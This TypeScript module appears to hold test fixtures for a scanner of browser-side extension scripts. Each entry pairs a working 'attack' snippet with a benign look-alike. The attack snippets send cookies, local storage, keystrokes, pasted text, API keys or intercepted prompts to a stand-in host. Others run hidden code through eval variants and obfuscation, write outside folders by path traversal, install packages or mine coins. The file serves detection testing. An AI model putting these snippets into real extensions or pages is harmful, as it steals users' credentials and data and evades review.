import type { Files } from './scanned.js';

/** An attack by a script, and what is close to it and honest. */
export type ScriptPack = {
  readonly rule: string;
  readonly what: string;
  readonly attack: string | Files;
  readonly honest?: string | Files;
};

const EVIL = 'https://collect.example.net/c';
const page = (source: string): Files => ({ 'web/page.html': source });
const inBase64 = (text: string): string => Buffer.from(text).toString('base64');
const reversed = (text: string): string => [...text].reverse().join('');

const OUTLETS: readonly ScriptPack[] = [
  {
    rule: 'script_sends_store',
    what: 'names that a server of calls looks up',
    attack:
      'new RTCPeerConnection({ iceServers: [{ urls: "stun:" + btoa(document.cookie).slice(0, 60) + ".collect.example.net" }] })',
    honest:
      'new RTCPeerConnection({ iceServers: [{ urls: "stun:stun.example.net:3478" }] });\nlocalStorage.getItem("theme")',
  },
  {
    rule: 'script_sends_store',
    what: 'a name for a relay of calls',
    attack:
      'const p = new RTCPeerConnection({ iceServers: [{ urls: "turn:collect.example.net", username: document.cookie, credential: "a" }] })',
  },
  {
    rule: 'script_sends_store',
    what: 'a stream of events',
    attack: `new EventSource("${EVIL}?" + localStorage.getItem("token"))`,
    honest: 'new EventSource("/my/events?theme=" + localStorage.getItem("token"))',
  },
  {
    rule: 'script_sends_store',
    what: 'a frame',
    attack: `const f = document.createElement("iframe"); f.src = "${EVIL}?" + document.cookie; document.body.append(f)`,
    honest: `const f = document.createElement("iframe"); f.src = "${EVIL}?theme=dark"; const c = document.cookie`,
  },
  {
    rule: 'script_sends_store',
    what: 'a message to a frame',
    attack: `const f = document.createElement("iframe"); f.src = "${EVIL}"; f.onload = () => f.contentWindow.postMessage(document.cookie, "*")`,
    honest: `const f = document.createElement("iframe"); f.src = "${EVIL}"; const c = document.cookie; f.onload = () => f.contentWindow.postMessage("hello", "*")`,
  },
  {
    rule: 'script_sends_store',
    what: 'an import',
    attack: 'import("https://cdn.jsdelivr.net/npm/x?" + document.cookie)',
  },
  {
    rule: 'script_sends_store',
    what: 'a style sheet',
    attack: `const s = document.createElement("style"); s.textContent = "body { background: url(${EVIL}?" + document.cookie + ") }"; document.head.append(s)`,
    honest: `const s = document.createElement("style"); s.textContent = "body { background: url(${EVIL}) }"; const c = document.cookie`,
  },
  {
    rule: 'script_sends_store',
    what: 'a property of a style',
    attack: `document.body.style.setProperty("background", \`url(${EVIL}?\${document.cookie})\`)`,
  },
  {
    rule: 'script_sends_store',
    what: 'a rule of a style sheet',
    attack: `document.styleSheets[0].insertRule("body { background: url(${EVIL}?" + document.cookie + ") }")`,
  },
  {
    rule: 'script_sends_store',
    what: 'a font',
    attack: `new FontFace("a", "url(${EVIL}?" + document.cookie + ")").load()`,
  },
  {
    rule: 'script_sends_store',
    what: 'an attribute of a picture',
    attack: `const i = new Image(); i.setAttribute("src", "${EVIL}?" + document.cookie)`,
  },
  {
    rule: 'script_sends_store',
    what: 'a picture shown before a film',
    attack: `document.createElement("video").poster = "${EVIL}?" + document.cookie`,
  },
  {
    rule: 'script_sends_store',
    what: 'a request that is made first',
    attack: `const r = new Request("${EVIL}", { method: "POST", body: document.cookie }); fetch(r)`,
  },
  {
    rule: 'script_sends_store',
    what: 'a function that is bound and applied',
    attack: `navigator.sendBeacon.apply(navigator, ["${EVIL}", document.cookie])`,
  },
  {
    rule: 'script_sends_store',
    what: 'a text for a timer',
    attack: `setTimeout("fetch('${EVIL}?' + document.cookie)", 500)`,
  },
  {
    rule: 'script_sends_store',
    what: 'a handler that is set',
    attack: `document.body.setAttribute("onclick", "fetch('${EVIL}?' + document.cookie)")`,
  },
  {
    rule: 'script_sends_store',
    what: 'a worker that is written in a text',
    attack: `const w = new Worker(URL.createObjectURL(new Blob(["onmessage = (e) => fetch('${EVIL}', { method: 'POST', body: e.data })"])));\nw.postMessage(document.cookie)`,
    honest:
      'const w = new Worker(URL.createObjectURL(new Blob(["onmessage = (e) => postMessage(e.data * 2)"])));\nw.postMessage(2)',
  },
];

const SOURCES: readonly ScriptPack[] = [
  {
    rule: 'script_sends_store',
    what: 'the getter of the cookies',
    attack: `const d = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");\nfetch("${EVIL}?" + d.get.call(document))`,
  },
  {
    rule: 'script_sends_store',
    what: 'cookies taken out of the document',
    attack: `const { cookie: c } = document, k = "localStorage";\nfetch("${EVIL}", { method: "POST", body: c + JSON.stringify(window[k]) })`,
  },
  {
    rule: 'script_sends_store',
    what: 'entries of the store',
    attack: `for (const [k, v] of Object.entries(localStorage)) fetch("${EVIL}?" + k + "=" + v)`,
    honest:
      'for (const [k, v] of Object.entries(localStorage)) console.log(k, v);\nfetch("https://api.example.org/list")',
  },
  {
    rule: 'script_sends_store',
    what: 'all settings of the host',
    attack: `api.getSettings().then((s) => fetch("${EVIL}", { method: "POST", body: JSON.stringify(s) }))`,
    honest:
      'api.getSettings().then((s) => applyTheme(s["my.theme"]));\nfetch("https://api.example.org/list")',
  },
  {
    rule: 'script_sends_store',
    what: 'a route of settings',
    attack: `fetch("/api/settings").then((r) => r.json()).then((s) => navigator.sendBeacon("${EVIL}", JSON.stringify(s)))`,
  },
  {
    rule: 'script_sends_store',
    what: 'a key that another package keeps',
    attack: `const k = app.ui.settings.getSettingValue("OtherPack.OpenAI.ApiKey");\nfetch("${EVIL}", { headers: { a: k } })`,
    honest: `app.ui.settings.addSetting({ id: "Mine.ApiKey", name: "Key", type: "text" });\nconst k = app.ui.settings.getSettingValue("Mine.ApiKey");\nfetch("${EVIL}", { headers: { Authorization: k } })`,
  },
  {
    rule: 'script_sends_store',
    what: 'a key in the new settings',
    attack: `const k = app.extensionManager.setting.get("Other.Token");\nfetch("${EVIL}?k=" + k)`,
    honest: `const k = app.extensionManager.setting.get("Comfy.Locale");\nfetch("https://api.example.org/texts?l=" + k)`,
  },
  {
    rule: 'script_sends_typed',
    what: 'what is pasted',
    attack: `document.addEventListener("paste", (e) => fetch("${EVIL}", { method: "POST", body: e.clipboardData.getData("text") }))`,
    honest: `document.addEventListener("paste", (e) => insert(e.clipboardData.getData("text")));\nfetch("https://api.example.org/a")`,
  },
  {
    rule: 'script_sends_typed',
    what: 'keys by jQuery',
    attack: `$(document).on("keypress", (e) => $.post("${EVIL}", { k: e.key }))`,
  },
  {
    rule: 'script_sends_typed',
    what: 'all fields, again and again',
    attack: `setInterval(() => {\n  const all = [...document.querySelectorAll("input, textarea")].map((f) => f.value);\n  navigator.sendBeacon("${EVIL}", all.join("|"));\n}, 5000)`,
    honest: `const all = [...panel.querySelectorAll("input.mine")].map((f) => f.value);\nfetch("${EVIL}", { method: "POST", body: all.join("|") })`,
  },
  {
    rule: 'script_sends_typed',
    what: 'a page that asks for passwords',
    attack: page(
      `<form method="post" action="${EVIL}"><input name="user"><input type="password" name="p"></form>`,
    ),
    honest: page(
      '<form method="post" action="/my/login"><input type="password" name="p"></form><a href="https://example.org">a</a>',
    ),
  },
];

const HOST: readonly ScriptPack[] = [
  {
    rule: 'script_sends_prompts',
    what: 'requests of the host by another fetchApi',
    attack: `const f = api.fetchApi;\napi.fetchApi = function (route, options) {\n  if (options?.body) navigator.sendBeacon("${EVIL}", options.body);\n  return f.apply(this, arguments);\n}`,
    honest:
      'const f = api.fetchApi;\napi.fetchApi = function (route, options) { console.log(route); return f.apply(this, arguments) };\nfetch("https://api.example.org/version")',
  },
  {
    rule: 'script_sends_prompts',
    what: 'requests by another fetch',
    attack: `const old = window.fetch;\nwindow.fetch = async (...all) => {\n  old("${EVIL}", { method: "POST", body: JSON.stringify(all) });\n  return old(...all);\n}`,
    honest:
      'const old = window.fetch;\nwindow.fetch = async (...all) => { count += 1; return old(...all) };\nold("https://api.example.org/version")',
  },
  {
    rule: 'script_sends_prompts',
    what: 'requests by a proxy',
    attack: `const old = window.fetch;\nwindow.fetch = new Proxy(old, { apply(target, self, all) { old("${EVIL}", { method: "POST", body: all[1].body }); return target(...all) } })`,
  },
  {
    rule: 'script_sends_prompts',
    what: 'what other requests send',
    attack: `const old = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (body) { navigator.sendBeacon("${EVIL}", body); return old.call(this, body) }`,
  },
  {
    rule: 'script_sends_prompts',
    what: 'arguments of another function of the app',
    attack: `const old = app.queuePrompt;\napp.queuePrompt = async function () { fetch("${EVIL}", { method: "POST", body: JSON.stringify(arguments) }); return old.apply(this, arguments) }`,
  },
  {
    rule: 'script_sends_prompts',
    what: 'a member that is defined',
    attack: `const old = api.queuePrompt;\nObject.defineProperty(api, "queuePrompt", { value: async (n, data) => { fetch("${EVIL}", { method: "POST", body: JSON.stringify(data) }); return old(n, data) } })`,
  },
  {
    rule: 'script_sends_prompts',
    what: 'requests that a service worker sees',
    attack: `self.addEventListener("fetch", (e) => { e.waitUntil(e.request.clone().text().then((t) => fetch("${EVIL}", { method: "POST", body: t }))) })`,
    honest: 'self.addEventListener("fetch", (e) => { e.respondWith(caches.match(e.request)) })',
  },
  {
    rule: 'script_sends_prompts',
    what: 'outputs by a function that is given an encoded address',
    attack:
      'const post = (u, d) => fetch(u, { method: "POST", body: d });\napi.addEventListener("executed", (e) => post(atob(x), JSON.stringify(e.detail)))',
    honest:
      'class Editor {\n  static blobOf(d) { const b = atob(d.split(",")[1]); return new Blob([Uint8Array.from(b, (c) => c.charCodeAt(0))]) }\n  static uploadImage(blob, id) { const body = new FormData(); body.append("image", new File([blob], id)); api.fetchApi("/upload/image", { method: "POST", body }) }\n}\napi.addEventListener("executed", (e) => Editor.uploadImage(Editor.blobOf(canvas.toDataURL()), e.detail.node));\nimage.src = "https://example.org/a.png"',
  },
  {
    rule: 'script_installs_packages',
    what: 'a route in pieces',
    attack: 'fetch("/cust" + "omnode/ins" + "tall/git_url", { method: "POST", body: "https://example.org/a" })',
  },
  {
    rule: 'script_installs_packages',
    what: 'a joined route',
    attack: 'api.fetchApi(["", "customnode", "install"].join("/"), { method: "POST" })',
    honest: 'api.fetchApi(["", "my", "list"].join("/"), { method: "POST" })',
  },
  {
    rule: 'script_installs_packages',
    what: 'a restored snapshot',
    attack: 'fetch("/snapshot/restore?target=mine", { method: "POST" })',
  },
  {
    rule: 'script_writes_outside',
    what: 'an upload into other packages',
    attack:
      'const d = new FormData();\nd.append("image", new Blob(["import os"]), "a.py");\nd.append("subfolder", "../../custom_nodes/a");\nfetch("/upload/image", { method: "POST", body: d })',
    honest:
      'const d = new FormData();\nd.append("image", file, "a.png");\nd.append("subfolder", "mine");\nfetch("/upload/image", { method: "POST", body: d })',
  },
  {
    rule: 'script_writes_outside',
    what: 'user data outside of its folder',
    attack: 'api.fetchApi("/userdata/..%2F..%2Fcustom_nodes%2Fa.py", { method: "POST", body: code })',
    honest: 'api.fetchApi("/userdata/mine%2Fa.json", { method: "POST", body: data })',
  },
  {
    rule: 'script_takes_over_pages',
    what: 'a service worker at the root',
    attack: 'navigator.serviceWorker.register("/my-worker.js")',
    honest: 'navigator.serviceWorker.register("/extensions/mine/sw.js")',
  },
];

const HIDDEN_CODE: readonly ScriptPack[] = [
  {
    what: 'another name of eval',
    attack: 'const run = eval;\nrun(atob("YWxlcnQoMSk="))',
    honest: 'const run = console.log;\nrun(atob("YWxlcnQoMSk="))',
  },
  { what: 'eval by each', attack: '[atob("YWxlcnQoMSk=")].forEach(eval)' },
  { what: 'eval after a promise', attack: 'Promise.resolve(atob("YWxlcnQoMSk=")).then(eval)' },
  { what: 'Reflect.construct', attack: 'Reflect.construct(Function, [atob("YWxlcnQoMSk=")])()' },
  { what: 'the constructor of the constructor of a text', attack: '""["constructor"]["constructor"](atob("YWxlcnQoMSk="))()' },
  {
    what: 'functions that wait',
    attack: 'const F = Object.getPrototypeOf(async function () {}).constructor;\nnew F(atob("YWxlcnQoMSk="))()',
  },
  {
    what: 'a worker',
    attack: 'new Worker(URL.createObjectURL(new Blob([atob("YWxlcnQoMSk=")], { type: "text/javascript" })))',
    honest:
      'const bytes = Uint8Array.from(atob("YWxlcnQoMSk="), (c) => c.charCodeAt(0));\nimage.src = URL.createObjectURL(new Blob([bytes], { type: "image/png" }));\nnew Worker("/extensions/mine/worker.js")',
  },
  {
    what: 'an import of a blob',
    attack:
      'const u = URL.createObjectURL(new Blob([atob("YWxlcnQoMSk=")], { type: "text/javascript" }));\nimport(u)',
  },
  {
    what: 'an import of a data address',
    attack: 'const code = decodeURIComponent("%61lert(1)");\nimport("data:text/javascript," + code)',
  },
  {
    what: 'a node of text in a script',
    attack:
      'const s = document.createElement("script");\ns.appendChild(document.createTextNode(atob("YWxlcnQoMSk=")));\ndocument.head.append(s)',
    honest:
      'const s = document.createElement("pre");\ns.appendChild(document.createTextNode(atob("YWxlcnQoMSk=")))',
  },
  {
    what: 'markup with a handler',
    attack: `document.body.innerHTML = atob("${inBase64('<img src=x onerror=alert(1)>')}")`,
    honest: `document.body.innerHTML = atob("${inBase64('<b>hello</b>')}")`,
  },
  {
    what: 'an address of code',
    attack: 'location.href = "javascript:" + atob("YWxlcnQoMSk=")',
    honest: 'link.href = "data:text/plain," + atob("YWxlcnQoMSk=")',
  },
  { what: 'a handler that is assigned', attack: 'document.body.onclick = new Function(atob("YWxlcnQoMSk="))' },
  {
    what: 'a fragment of markup',
    attack: `document.body.append(document.createRange().createContextualFragment(atob("${inBase64('<img src=x onerror=alert(1)>')}")))`,
  },
  {
    what: 'a text that is unpacked',
    attack:
      'const b = Uint8Array.from(atob("H4sI"), (c) => c.charCodeAt(0));\nconst s = new Blob([b]).stream().pipeThrough(new DecompressionStream("gzip"));\nnew Response(s).text().then((t) => (0, eval)(t))',
  },
  {
    what: 'a text that is decrypted',
    attack:
      'const k = await crypto.subtle.decrypt(a, key, data);\nnew Function(new TextDecoder().decode(k))()',
  },
  {
    what: 'a page within an address',
    attack: page(
      `<iframe src="data:text/html;base64,${inBase64('<script>eval(atob("YWxlcnQoMSk="))</script>')}"></iframe>`,
    ),
    honest: page(`<iframe src="data:text/html;base64,${inBase64('<b>hello</b>')}"></iframe>`),
  },
  {
    what: 'a picture that sets a handler',
    attack: {
      'a.svg': `<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onmouseover" to="eval(atob('YWxlcnQoMSk='))"/></svg>`,
    },
    honest: {
      'a.svg': '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="fill" to="red" begin="1s"/></svg>',
    },
  },
  {
    what: 'a document of another kind',
    attack: {
      'a.xml': '<a><script xmlns="http://www.w3.org/1999/xhtml">eval(atob("YWxlcnQoMSk="))</script></a>',
    },
    honest: { 'a.xml': '<a><script>run the tests</script></a>' },
  },
].map((pack) => ({ rule: 'script_runs_hidden_code', ...pack }));

const HIDDEN_NAMES: readonly ScriptPack[] = [
  {
    rule: 'script_sends_store',
    what: 'pieces in an array',
    attack:
      'const a = ["htt", "ps://", "collect.example", ".net/"];\nfetch(a[0] + a[1] + a[2] + a[3] + document["coo" + "kie"])',
  },
  {
    rule: 'script_sends_store',
    what: 'letters as numbers',
    attack: `fetch(String.fromCharCode(${[...EVIL].map((letter) => letter.charCodeAt(0)).join(',')}) + "?" + document.cookie)`,
  },
  {
    rule: 'script_sends_store',
    what: 'a reversed address',
    attack: `fetch([..."${reversed(EVIL)}"].reverse().join(""), { method: "POST", body: document.cookie })`,
  },
  {
    rule: 'script_sends_store',
    what: 'a template',
    attack:
      'const s = "https";\nfetch(`${s}://${["collect", "example", "net"].join(".")}/`, { method: "POST", body: document.cookie })',
  },
  {
    rule: 'script_sends_store',
    what: 'letters that are replaced',
    attack:
      'const u = "hxxps://collect[.]example[.]net".replace("hxxp", "http").replace(/\\[\\.\\]/g, ".");\nfetch(u + "/" + document.cookie)',
  },
  {
    rule: 'script_sends_store',
    what: 'a table that is turned',
    attack: `(function (a, n) { const t = a(); while (!![]) { try { if (-parseInt(b(0x1)) / 0x1 + parseInt(b(0x2)) / 0x2 === n) break; else t["push"](t["shift"]()); } catch (e) { t["push"](t["shift"]()); } } })(a, 0x3f2);
function a() { const t = ["12ab", "cookie", "34cd", "${EVIL}?", "56ef"]; a = function () { return t; }; return a(); }
function b(i, k) { const t = a(); return b = function (i, k) { i = i - 0x0; let r = t[i]; return r; }, b(i, k); }
fetch(b(0x3) + document[b(0x1)]);`,
    honest: `const items = ["dark", "light"];\nfunction next() { items.push(items.shift()); return items[0] }\nfetch("${EVIL}?theme=" + items[count % 2]);\nconst c = document.cookie`,
  },
  {
    rule: 'script_obfuscated',
    what: 'a table that is turned by a tool',
    attack: `(function (a, n) { const t = a(); while (true) { try { if (parseInt(b(1)) / 1 + parseInt(b(2)) / 2 === n) break; t.push(t.shift()); } catch { t.push(t.shift()); } } })(a, 1);`,
    honest: 'const next = () => { const n = parseInt(slides.dataset.count); slides.push(slides.shift()); return n }',
  },
  {
    rule: 'script_hides_names',
    what: 'a name out of a table',
    attack:
      'const t = ["title", "cookie", "body"];\nt.push(t.shift());\nconst at = (i) => t[i - 12];\nsend(document[at(12)]); eval',
    honest:
      'const t = ["exitFullscreen", "webkitExitFullscreen"];\nfor (let i = 0; i < 2; i++) if (document[t[i]]) document[t[i]]()',
  },
  {
    rule: 'script_hides_names',
    what: 'a name as a number',
    attack: 'window[(693741).toString(36)]("1"); window[(14).toString(36) + "val"]("1")',
    honest: 'const id = Math.random().toString(36); window[id] = 1; const n = (693741).toString(16)',
  },
  {
    rule: 'script_hides_names',
    what: 'a decoded name of the document',
    attack: 'const name = atob(parts[1]);\nsend(document[name]); eval',
    honest: 'const name = atob(parts[1]);\nshow(labels[name]); eval',
  },
  {
    rule: 'script_hides_address',
    what: 'an address in Base64',
    attack: `fetch(atob("${inBase64(EVIL)}"))`,
    honest: `fetch("/my/route?q=" + atob("${inBase64('a')}"))`,
  },
  ...[
    ['the number of a host', 'https://3405803781/c'],
    ['a host of version six', 'https://[2001:db8::1]/c'],
    ['a host that begins as a local one', 'https://127.0.0.1.example.net/c'],
    ['slashes the other way', '\\\\\\\\collect.example.net/c'],
    ['no slashes', 'https:collect.example.net/c'],
    ['a line break within', 'ht\\ntps://collect.example.net/c'],
  ].map(([what = '', address = '']) => ({
    rule: 'script_sends_store',
    what,
    attack: `fetch("${address}", { method: "POST", body: document.cookie })`,
  })),
  ...[
    ['this computer', 'http://127.0.0.1:8188/a'],
    ['this computer by version six', 'http://[::1]:8188/a'],
    ['a computer of the house', 'http://192.168.1.20/a'],
  ].map(([what = '', address = '']) => ({
    rule: 'script_sends_store',
    what: `a computer farther away than ${what}`,
    attack: `fetch("${EVIL}", { method: "POST", body: document.cookie })`,
    honest: `fetch("${address}", { method: "POST", body: document.cookie })`,
  })),
];

const LOADED: readonly ScriptPack[] = [
  {
    rule: 'script_loads_from_pages',
    what: 'a repository by a host of libraries',
    attack: 'import("https://cdn.jsdelivr.net/gh/someone/something/a.js")',
    honest: 'const u = "https://cdn.jsdelivr.net/gh/someone/something/a.png"; image.src = u',
  },
  {
    rule: 'script_loads_foreign_code',
    what: 'a worker of another host',
    attack: 'importScripts("https://code.example.net/a.js")',
    honest: 'importScripts("./a.js")',
  },
  {
    rule: 'script_loads_foreign_code',
    what: 'a worker that loads',
    attack:
      'new Worker(URL.createObjectURL(new Blob(["importScripts(\'https://code.example.net/a.js\')"])))',
  },
  {
    rule: 'script_mines_coins',
    what: 'a program and a socket',
    attack:
      'const { instance } = await WebAssembly.instantiateStreaming(fetch("a.wasm"));\nconst s = new WebSocket("wss://pool.example.net:3333");\ns.onopen = () => s.send(JSON.stringify({ method: "login", params: { login: wallet, pass: "x" } }));\ns.onmessage = (e) => { const job = JSON.parse(e.data); hashes += instance.exports.hash(job.blob, job.target, nonce++) };',
    honest:
      'const { instance } = await WebAssembly.instantiateStreaming(fetch("a.wasm"));\nconst s = new WebSocket(location.origin + "/ws");\ns.onmessage = (e) => { const job = JSON.parse(e.data); show(job.target, nonce) };',
  },
];

export const SCRIPT_ATTACK_PACKS: readonly ScriptPack[] = [
  ...OUTLETS,
  ...SOURCES,
  ...HOST,
  ...HIDDEN_CODE,
  ...HIDDEN_NAMES,
  ...LOADED,
];
